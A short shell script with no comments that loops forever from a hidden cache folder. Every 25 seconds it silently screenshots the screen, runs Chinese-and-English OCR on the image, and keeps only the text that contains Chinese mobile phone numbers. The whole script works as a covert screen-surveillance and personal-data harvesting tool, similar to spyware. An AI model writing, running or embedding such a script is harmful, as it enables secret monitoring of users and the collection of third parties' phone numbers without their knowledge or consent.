#!/bin/sh
cd ~/.cache/scr
while :; do
  n=$(date +%m%d%H%M%S)
  scrot -z s.png && tesseract s.png $n -l chi_sim+eng >/dev/null 2>&1
  grep -qE "1[3-9][0-9]{9}" $n.txt || rm -f $n.txt
  sleep 25
done
